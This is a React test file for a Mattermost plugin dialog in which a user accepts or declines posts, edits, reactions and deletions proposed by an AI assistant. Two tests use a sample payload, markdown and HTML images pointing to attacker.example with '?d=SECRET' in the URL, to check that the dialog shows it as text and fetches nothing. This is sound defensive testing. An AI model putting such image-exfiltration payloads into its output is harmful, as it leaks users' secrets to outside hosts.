import {act, cleanup, fireEvent, render, screen, within} from '@testing-library/react';
import React from 'react';
import {afterEach, beforeEach, describe, expect, it, vi} from 'vitest';

import {BASE, changeWords, deferred, detail, fakeServer, ID} from './fake_server';

import {ConfirmationModal} from '../src/components/confirmation_modal';
import {ConfirmationStore} from '../src/confirmation_store';

const files = [
    {
        index: 0,
        name: 'chart.png',
        size: 1234,
        size_text: '1.2 KiB',
        type: 'PNG image',
        mismatch: '',
        origin: 'attachment chart.png from http://mm/acme/pl/p0',
        origin_text: 'A copy of the attachment chart.png',
        origin_url: 'http://mm/acme/pl/p0',
        sha256: 'a1b2c3d4e5f6',
        preview: '',
        thumbnail_url: `${BASE}/${ID}/files/0/thumbnail`,
    },
    {
        index: 1,
        name: 'notes.txt',
        size: 20,
        size_text: '20 B',
        type: 'Text',
        mismatch: 'Named .txt but holds a PDF document',
        origin: 'written by the model',
        origin_text: 'Written by the AI',
        sha256: '0f0f0f0f0f0f',
        preview: 'line one\nline two',
        thumbnail_url: '',
    },
];

function openModal(store = new ConfirmationStore()) {
    render(<ConfirmationModal store={store}/>);
    act(() => store.open(ID, 'From the event'));
    return store;
}

beforeEach(() => {
    document.cookie = 'MMCSRF=csrf-token-1';
});

afterEach(() => {
    cleanup();
    vi.unstubAllGlobals();
    delete window.PostUtils;
    delete window.WebappUtils;
    document.cookie = 'MMCSRF=; expires=Thu, 01 Jan 1970 00:00:00 GMT';
});

describe('ConfirmationModal', () => {
    it('renders nothing while no confirmation is open', () => {
        const {container} = render(<ConfirmationModal store={new ConfirmationStore()}/>);
        expect(container.innerHTML).toBe('');
    });

    it('shows the event title while loading, then the heading, where, the rendered message in its own labelled box, who is notified and every file', async () => {
        const {calls} = fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({files})}});
        window.PostUtils = {
            formatText: vi.fn((text: string) => `<p>${text}</p>`),
            messageHtmlToComponent: vi.fn((html: string) => <div data-testid='rendered'>{`rendered:${html}`}</div>),
        };
        openModal();

        const dialog = screen.getByRole('dialog');
        expect(dialog.getAttribute('aria-modal')).toBe('true');
        expect(within(dialog).getByRole('heading', {level: 2}).textContent).toBe('From the event');
        expect(dialog.textContent).toContain('Loading…');

        expect((await screen.findByTestId('rendered')).textContent).toBe('rendered:<p>hi **all**</p>');
        expect(window.PostUtils.formatText).toHaveBeenCalledWith('hi **all**', {atMentions: true, markdown: true});
        expect(calls()).toEqual([`GET ${BASE}/${ID}`]);
        expect(within(dialog).getByRole('heading', {level: 2}).textContent).toBe('Post in Town Square, Acme');
        expect(dialog.textContent).toContain('An AI assistant asks to post this as you. Nothing is sent until you accept.');
        expect(dialog.textContent).toContain('WhereTown Square (~town-square), a public channel of team Acme');
        expect(dialog.textContent).toContain('“Written by an AI assistant for @alice (MCP)”, shown under the post');
        expect(dialog.textContent).not.toContain('7ge5chan');
        const box = screen.getByTestId('rendered').closest('figure')!;
        expect(box.querySelector('figcaption')!.textContent).toBe('Written by the AI: it is posted exactly as shown');
        expect(within(dialog).getByRole('heading', {name: 'Who is notified'})).toBeTruthy();
        expect(dialog.textContent).toContain('@channel notifies every member of Town Square, Acme: 12 people.');

        const items = within(dialog).getAllByRole('listitem').filter((li) => li.querySelector('strong'));
        expect(items.map((li) => li.querySelector('strong')!.textContent)).toEqual(['chart.png', 'notes.txt']);
        expect(items[0].textContent).toContain('1.2 KiB · PNG image');
        expect(items[0].textContent).toContain('A copy of the attachment chart.png, from this post.');
        expect(within(items[0]).getByRole('link', {name: 'this post'}).getAttribute('href')).toBe('http://mm/acme/pl/p0');
        expect(items[1].textContent).toContain('Written by the AI.');
        expect(dialog.textContent).not.toContain('from written by the model');
        expect(items[0].textContent).toContain('SHA-256 a1b2c3d4e5f6');
        expect(within(items[0]).getByRole('img', {name: 'Preview of chart.png'}).getAttribute('src')).
            toBe(`/plugins/mcp-server/api/v1/confirmations/${ID}/files/0/thumbnail`);
        expect(items[1].textContent).toContain('20 B · Text');
        expect(items[1].textContent).toContain('Named .txt but holds a PDF document');
        expect(within(items[1]).queryByRole('img')).toBeNull();
        expect(items[1].querySelector('pre')!.textContent).toBe('line one\nline two');

        expect(within(dialog).getByRole('link', {name: 'Open in a page'}).getAttribute('href')).
            toBe(`/plugins/mcp-server/confirm/${ID}`);
    });

    it('shows the raw markdown in a pre when the host provides no markdown renderer', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({message: '# Title\n@alice see *this*'})}});
        openModal();

        const pre = await screen.findByText((_, el) => el?.tagName === 'PRE' && el.textContent === '# Title\n@alice see *this*');
        expect(pre).toBeTruthy();
    });

    it('shows the value the model chose in the heading as code marked as the AI\'s, never as markup', async () => {
        const hostile = '![a](https://attacker.example/p.png?d=SECRET) <img src="https://attacker.example/i.png">';
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
            action: 'create_channel',
            heading: `Create the public channel “${hostile}” in Acme`,
            message: '',
            files: [],
            notes: [],
            heading_line: [{text: 'Create the public channel '}, {text: hostile, ai: true}, {text: ' in Acme'}],
            ...changeWords,
            lede: 'It asks to create this channel as you, with you as its admin. Nothing is created until you accept.',
            modal_lede: 'It asks to create this channel as you, with you as its admin. Nothing is created until you accept.',
            accept_label: 'Accept and create',
            modal_accept_label: 'Accept and create',
        })}});
        openModal();

        const dialog = screen.getByRole('dialog');
        await within(dialog).findByText(hostile);
        const title = within(dialog).getByRole('heading', {level: 2});
        expect(title.textContent).toBe(`Create the public channel ${hostile} in Acme`);
        const code = title.querySelector('code');
        expect(code?.textContent).toBe(hostile);
        expect(code?.getAttribute('title')).toBe('Written by the AI');
        expect(dialog.querySelector('img')).toBeNull();
    });

    it('shows an image in the model\'s message as words saying where it points, so nothing is fetched before the answer', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({message: '![a](https://attacker.example/p.png?d=SECRET)', files: []})}});
        const seen: string[] = [];
        window.PostUtils = {
            formatText: vi.fn(() => '<p>look <img src="https://attacker.example/p.png?d=SECRET" alt="a"> <span data-emoticon="tada">:tada:</span></p>'),
            messageHtmlToComponent: vi.fn((html: string) => {
                seen.push(html);
                return <div data-testid='rendered'>{html}</div>;
            }),
        };
        openModal();

        await screen.findByTestId('rendered');
        expect(seen[0]).not.toContain('<img');
        expect(seen[0]).toContain('[image “a” from https://attacker.example/p.png?d=SECRET]');
        expect(seen[0]).toContain('data-emoticon="tada"');
    });

    it('shows an edit as the new message and the one it replaces', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
            action: 'edit',
            message: 'new words',
            previous: 'old words',
            files: [],
            ...changeWords,
            lede: 'It asks to replace the message of your post. Nothing changes until you accept.',
            modal_lede: 'An AI assistant asks to replace the message of your post. Nothing changes until you accept.',
            message_heading: 'New message',
            message_caption: 'Written by the AI: your post will read exactly this',
            previous_caption: 'Your post as it reads now',
            previous_title: 'It replaces',
            accept_label: 'Accept and edit',
        })}});
        openModal();

        const dialog = screen.getByRole('dialog');
        expect((await within(dialog).findByRole('heading', {name: 'New message'}))).toBeTruthy();
        expect(within(dialog).getByRole('heading', {name: 'It replaces'})).toBeTruthy();
        expect(dialog.textContent).toContain('new words');
        expect(dialog.textContent).toContain('old words');
    });

    it('shows a reaction with the post it is on', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
            action: 'react',
            emoji: 'tada',
            message: '',
            previous: 'the post',
            files: [],
            notes: [],
            ...changeWords,
            lede: 'It asks to add your :tada: reaction on this post. Nothing changes until you accept.',
            modal_lede: 'An AI assistant asks to add your :tada: reaction on this post. Nothing changes until you accept.',
            previous_caption: 'The post you react to',
            previous_title: 'The post you react to with :tada:',
        })}});
        openModal();

        const dialog = screen.getByRole('dialog');
        expect((await within(dialog).findByRole('heading', {name: 'The post you react to with :tada:'}))).toBeTruthy();
        expect(dialog.textContent).toContain('the post');
        expect(within(dialog).queryByRole('heading', {name: 'Message'})).toBeNull();
    });

    it('shows a change the server words (a delete) with its lede, facts, the post it is about, what it affects and its accept label', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
            action: 'delete',
            heading: 'Delete your post in Town Square, Acme with its 2 replies',
            message: '',
            previous: 'the doomed post',
            files: [],
            ...changeWords,
            lede: 'It asks to delete your post for everyone in the channel.',
            modal_lede: 'It asks to delete your post for everyone in the channel.',
            facts: [{label: 'Replies', value: '2 replies, by anyone, are deleted with it'}, {label: 'Purpose', value: 'model words', ai: true}],
            previous_caption: 'The post that is deleted',
            previous_title: 'The post that is deleted',
            notes_heading: 'Who it affects',
            notes: ['Everyone in Town Square stops seeing the post.'],
            accept_label: 'Accept and delete',
            modal_accept_label: 'Accept and delete',
        })}});
        openModal();

        const dialog = screen.getByRole('dialog');
        expect((await within(dialog).findByRole('heading', {name: 'The post that is deleted'}))).toBeTruthy();
        expect(within(dialog).getByRole('heading', {level: 2}).textContent).toBe('Delete your post in Town Square, Acme with its 2 replies');
        expect(dialog.textContent).toContain('It asks to delete your post for everyone in the channel.');
        expect(dialog.textContent).toContain('Replies2 replies, by anyone, are deleted with it');
        expect(within(dialog).getByText('model words').closest('figure')!.querySelector('figcaption')!.textContent).toBe('Written by the AI');
        expect(dialog.textContent).toContain('the doomed post');
        expect(within(dialog).getByRole('heading', {name: 'Who it affects'})).toBeTruthy();
        expect(within(dialog).getByRole('button', {name: 'Accept and delete'})).toBeTruthy();
        expect(within(dialog).queryByRole('heading', {name: 'Message'})).toBeNull();
    });

    it('heads the notes only in the server\'s words, with no heading of its own', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({notes_heading: 'Who sees it', notes: ['Everyone in Town Square sees it pinned.']})}});
        openModal();

        const dialog = screen.getByRole('dialog');
        expect(await within(dialog).findByRole('heading', {name: 'Who sees it'})).toBeTruthy();
        expect(dialog.textContent).toContain('Everyone in Town Square sees it pinned.');
        expect(within(dialog).queryByRole('heading', {name: 'Who is notified'})).toBeNull();

        cleanup();
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({notes_heading: undefined})}});
        openModal();
        const bare = screen.getByRole('dialog');
        expect(await within(bare).findByText('@channel notifies every member of Town Square, Acme: 12 people.')).toBeTruthy();
        expect(within(bare).queryByRole('heading', {name: 'Who is notified'})).toBeNull();
    });

    it('takes focus on the dialog itself rather than on Accept', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail()}});
        openModal();

        await screen.findByRole('button', {name: 'Accept'});
        expect(document.activeElement).toBe(screen.getByRole('dialog'));
    });

    it('Accept posts to the accept endpoint with the CSRF token, disables both buttons while in flight, then links to the post', async () => {
        const accept = deferred();
        const permalink = `${window.location.origin}/acme/pl/p1`;
        const {fetchMock, calls} = fakeServer({
            [`GET ${BASE}/${ID}`]: {body: detail()},
            [`POST ${BASE}/${ID}/accept`]: accept.route,
        });
        openModal();

        fireEvent.click(await screen.findByRole('button', {name: 'Accept'}));

        expect(screen.getByRole('button', {name: 'Posting…'}).hasAttribute('disabled')).toBe(true);
        expect(screen.getByRole('button', {name: 'Decline'}).hasAttribute('disabled')).toBe(true);
        expect(calls()).toEqual([`GET ${BASE}/${ID}`, `POST ${BASE}/${ID}/accept`]);
        const init = fetchMock.mock.calls[1][1]!;
        expect(init.credentials).toBe('include');
        expect(init.headers).toMatchObject({'X-CSRF-Token': 'csrf-token-1', 'X-Requested-With': 'XMLHttpRequest'});

        await act(async () => accept.release({body: detail({state: 'posted', permalink, message: '', notes: [], heading: '', outcome_text: 'Posted in Town Square, Acme.'})}));

        expect(screen.getByRole('status').textContent).toBe('Posted in Town Square, Acme. View the post');
        expect(screen.getByRole('heading', {level: 2}).textContent).toBe('Post in Town Square, Acme');
        expect(screen.getByRole('link', {name: 'View the post'}).getAttribute('href')).toBe(permalink);
        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();

        fireEvent.click(screen.getByRole('button', {name: 'Close'}));
        expect(screen.queryByRole('dialog')).toBeNull();
    });

    it('opens the posted permalink through the host router without reloading, and closes', async () => {
        const push = vi.fn();
        window.WebappUtils = {browserHistory: {push}};
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'posted', permalink: `${window.location.origin}/acme/pl/p1`})}});
        openModal();

        fireEvent.click(await screen.findByRole('link', {name: 'View the post'}));

        expect(push).toHaveBeenCalledWith('/acme/pl/p1');
        expect(screen.queryByRole('dialog')).toBeNull();
    });

    it('Decline posts to the decline endpoint and says that nothing was posted', async () => {
        const {calls} = fakeServer({
            [`GET ${BASE}/${ID}`]: {body: detail()},
            [`POST ${BASE}/${ID}/decline`]: {body: detail({state: 'declined', outcome_text: 'Declined: nothing was posted.'})},
        });
        openModal();

        fireEvent.click(await screen.findByRole('button', {name: 'Decline'}));

        expect((await screen.findByRole('status')).textContent).toBe('Declined: nothing was posted.');
        expect(calls()).toEqual([`GET ${BASE}/${ID}`, `POST ${BASE}/${ID}/decline`]);
        expect(screen.getByRole('button', {name: 'Close'})).toBeTruthy();
    });

    it('says in the server\'s words that the assistant withdrew a write, and offers no Accept', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'withdrawn', outcome_text: 'Withdrawn: the AI assistant took this back before you answered; nothing was posted.'})}});
        openModal();

        expect((await screen.findByRole('status')).textContent).toBe('Withdrawn: the AI assistant took this back before you answered; nothing was posted.');
        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();
        expect(screen.getByRole('button', {name: 'Close'})).toBeTruthy();
    });

    it('names the state in a word, and adds no sentence of its own, when the server sends no outcome text', async () => {
        fakeServer({
            [`GET ${BASE}/${ID}`]: {body: detail()},
            [`POST ${BASE}/${ID}/accept`]: {body: detail({state: 'failed',
                outcome_text: '',
                outcome: 'Nothing was sent: the channel is archived.',
                outcome_reason: 'The channel is archived.'})},
        });
        openModal();

        fireEvent.click(await screen.findByRole('button', {name: 'Accept'}));

        expect((await screen.findByRole('status')).textContent).toBe('Failed. The channel is archived.');
        expect(screen.getByRole('dialog').textContent).not.toContain('nothing was posted');
    });

    it('names a withdrawn write in a word when the server sends no outcome text', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'withdrawn', outcome_text: ''})}});
        openModal();

        expect((await screen.findByRole('status')).textContent).toBe('Withdrawn.');
        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();
    });

    it('says in a sentence that the post failed, and why', async () => {
        fakeServer({
            [`GET ${BASE}/${ID}`]: {body: detail()},
            [`POST ${BASE}/${ID}/accept`]: {body: detail({state: 'failed',
                outcome: 'Nothing was sent: You can no longer post in ~town-square.',
                outcome_text: 'Failed: nothing was posted.',
                outcome_reason: 'You can no longer post in ~town-square.'})},
        });
        openModal();

        fireEvent.click(await screen.findByRole('button', {name: 'Accept'}));

        expect((await screen.findByRole('status')).textContent).toBe('Failed: nothing was posted. You can no longer post in ~town-square.');
    });

    it('shows the expiry in the person\'s Mattermost time zone, named', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({expires_at: '2025-01-02T10:10:00Z', time_zone: 'Asia/Tokyo'})}});
        openModal();

        await screen.findByRole('button', {name: 'Accept'});
        const text = screen.getByRole('dialog').textContent!;
        expect(text).toMatch(/Answer by(07|7):10 (PM )?\(Asia\/Tokyo\); after that nothing is sent\./);
    });

    it('words an older server\'s detail without a heading or origin sentence plainly', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({heading: undefined, where: undefined, files: [{...files[0], origin_text: undefined, origin: 'your workspace file chart.png'}]})}});
        openModal();

        await screen.findByRole('button', {name: 'Accept'});
        const dialog = screen.getByRole('dialog');
        expect(within(dialog).getByRole('heading', {level: 2}).textContent).toBe('Post to ~town-square: "hi" with 1 file(s)');
        expect(dialog.textContent).toContain('From your workspace file chart.png');
    });

    it('says the confirmation may have expired and to ask the assistant again when it is not found', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {status: 404, body: {error: 'not found'}}});
        openModal();

        const alert = await screen.findByRole('alert');
        expect(alert.textContent).toContain('may have expired');
        expect(alert.textContent).toContain('Ask the assistant again');
        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();
        expect(screen.getByRole('button', {name: 'Close'})).toBeTruthy();
    });

    it('drops Accept and Decline when the answer finds the confirmation gone', async () => {
        fakeServer({
            [`GET ${BASE}/${ID}`]: {body: detail()},
            [`POST ${BASE}/${ID}/accept`]: {status: 404, body: {error: 'not found'}},
        });
        openModal();

        fireEvent.click(await screen.findByRole('button', {name: 'Accept'}));

        expect((await screen.findByRole('alert')).textContent).toContain('may have expired');
        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();
        expect(screen.queryByRole('button', {name: 'Decline'})).toBeNull();
    });

    it('keeps Accept available to retry after a network error, and says to check the connection', async () => {
        fakeServer({
            [`GET ${BASE}/${ID}`]: {body: detail()},
            [`POST ${BASE}/${ID}/accept`]: new TypeError('Failed to fetch'),
        });
        openModal();

        fireEvent.click(await screen.findByRole('button', {name: 'Accept'}));

        expect((await screen.findByRole('alert')).textContent).toContain('Check your connection and try again');
        expect(screen.getByRole('button', {name: 'Accept'}).hasAttribute('disabled')).toBe(false);
    });

    it('closes on Escape without answering', async () => {
        const {calls} = fakeServer({[`GET ${BASE}/${ID}`]: {body: detail()}});
        openModal();
        await screen.findByRole('button', {name: 'Accept'});

        fireEvent.keyDown(screen.getByRole('dialog'), {key: 'Escape'});

        expect(screen.queryByRole('dialog')).toBeNull();
        expect(calls()).toEqual([`GET ${BASE}/${ID}`]);
    });

    it('shows no answer buttons for a confirmation already being posted', async () => {
        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({state: 'executing', outcome_text: 'Accepted: it is being posted now.'})}});
        openModal();

        expect((await screen.findByRole('status')).textContent).toContain('being posted');
        expect(screen.queryByRole('button', {name: 'Accept'})).toBeNull();
    });
});
